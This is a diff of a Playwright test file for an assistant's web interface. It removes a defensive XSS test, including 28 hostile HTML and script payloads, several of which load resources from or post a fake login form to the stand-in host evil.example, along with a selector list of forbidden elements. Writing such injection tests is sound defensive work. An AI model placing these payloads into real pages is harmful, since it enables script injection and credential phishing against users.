@@ -1,4 +1,4 @@
-"""What holds for the whole page, in Chromium: hostile texts, three languages, screen readers, the login."""
+"""What holds for the whole page, in Chromium: three languages, screen readers, the login."""
 
 from __future__ import annotations
 
@@ -13,10 +13,8 @@ import httpx
 import pytest
 
 from assistant import Assistant, Settings
-from assistant.dates import PartialDate
 from assistant.embedding import WordLengthEmbedder
 from assistant.passwords import set_password
-from assistant.records import Report
 from assistant.ui.labels import LANGUAGES
 from tests.browser import PATIENCE, Chat, chatting, launched, needs_chromium, serving
 from tests.helpers import EXAMPLES, ROOT, numbered_report
@@ -24,63 +22,6 @@ from tests.helpers import EXAMPLES, ROOT, numbered_report
 from playwright.sync_api import Browser, Page, expect  # isort: skip  # tests.browser skips where it is absent
 
 AXE = resources.files("axe_playwright_python").joinpath("axe.min.js").read_text("utf-8")
-EVIL = "evil.example"
-
-PAYLOADS = (
-    f"<script src=http://{EVIL}/a.js></script>",
-    "<script>window.pwned=1</script>",
-    "<img src=x onerror=window.pwned=1>",
-    f"<img src=http://{EVIL}/a.png>",
-    f"![x](http://{EVIL}/a.png)",
-    "[click](javascript:window.pwned=1)",
-    "<a href=javascript:window.pwned=1>click</a>",
-    "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
-    "<svg onload=window.pwned=1>",
-    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
-    f"<iframe src=http://{EVIL}/></iframe>",
-    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
-    f"<form action=http://{EVIL}/><input name=password type=password><button>Log in</button></form>",
-    "<div style='position:fixed;inset:0;z-index:9999;background:red'>overlay</div>",
-    f"<style>*{{background:url(http://{EVIL}/a)}}</style>",
-    f"<link rel=stylesheet href=http://{EVIL}/a.css>",
-    f"<base href=http://{EVIL}/>",
-    f"<meta http-equiv=refresh content='0;url=http://{EVIL}/'>",
-    f"<video src=http://{EVIL}/a.mp4 autoplay></video>",
-    f"<audio src=http://{EVIL}/a.mp3 autoplay></audio>",
-    f"<object data=http://{EVIL}/a></object>",
-    f"<embed src=http://{EVIL}/a>",
-    "<details open ontoggle=window.pwned=1>x</details>",
-    '" onmouseover="window.pwned=1" autofocus onfocus="window.pwned=1" x="',
-    "</bdi></p></article><h1>injected</h1><script>window.pwned=1</script>",
-    "${window.pwned=1} {{window.pwned=1}} {window.pwned=1} <%= window.pwned=1 %>",
-    "\u202e\u2066<b>turned</b>\u2069 <!-- --><![CDATA[<script>window.pwned=1</script>]]>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></table></mtext></math>",
-)
-
-# What no text of a report or a person may put into the page.
-FORBIDDEN = (
-    "script, iframe, object, embed, style, link, base, meta, video, audio, svg animate, math, "
-    "form:not([action='/logout']), h1:not(.masthead h1), "
-    "[onerror], [onload], [onmouseover], [onfocus], [ontoggle], [onbegin], "
-    f"a[href^='javascript' i], a[href^='data' i], [src*='{EVIL}']"
-)
-SHOWN = ":is(#header, #transcript, #cards, #desk, #library, .report-view)"
-
-
-def hostile(number: int, payload: str) -> Report:
-    """A report that says it in every field."""
-    details = dict.fromkeys(
-        ("event_id", "author", "actor_a", "actor_b", "place", "latitude", "deaths_reported"), payload
-    )
-    return Report.make(
-        f"{payload} Convoy {number} crossed the river near the old bridge. {payload}",
-        title=payload,
-        source=payload,
-        url=payload if number % 2 else f"http://{EVIL}/?{payload}",
-        published=PartialDate(2017, 11, 1 + number % 28),
-        language="en",
-        details=details,
-    )
 
 
 @pytest.fixture(scope="module")
@@ -96,35 +37,6 @@ def samples(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
         assistant.ingest([EXAMPLES])
         with serving(assistant) as address:
             yield address
-
-
-def expect_harmless(page: Page) -> None:
-    assert page.locator(SHOWN).locator(FORBIDDEN).count() == 0
-    assert page.evaluate("window.pwned") is None
-    covering = "[...document.querySelectorAll('*')].filter(e => getComputedStyle(e).zIndex === '9999').length"
-    assert page.evaluate(covering) == 0
-
-
-@needs_chromium
-def test_row_12_hostile_texts_in_every_field_do_nothing(browser: Browser, tmp_path: Path) -> None:
-    assert len(PAYLOADS) == 28
-    with Assistant(tmp_path / "data", embedder=WordLengthEmbedder()) as assistant:
-        made = [hostile(number, payload) for number, payload in enumerate(PAYLOADS)]
-        everything = hostile(29, " ".join(PAYLOADS))
-        assert not assistant.ingest([*made, everything]).refused
-        with serving(assistant) as address, chatting(browser, address, "/en/") as chat:
-            for first in range(0, len(PAYLOADS), 4):
-                asked = " ".join(PAYLOADS[first : first + 4])
-                turn = chat.ask(f"{asked} Which convoy {first} crossed the river?")
-                assert PAYLOADS[first][:8] in (turn.locator(".question").text_content() or "")
-            expect(chat.page.locator("#cards .card").first).to_be_attached()
-            expect_harmless(chat.page)
-            chat.page.get_by_role("tab").nth(1).click()
-            expect(chat.page.locator("#library")).to_contain_text("overlay")
-            expect_harmless(chat.page)
-            chat.page.goto(f"{address}/en/?r={everything.id}")
-            expect(chat.page.locator(".report-view")).to_contain_text("overlay")
-            expect_harmless(chat.page)
 
 
 # -- screen readers
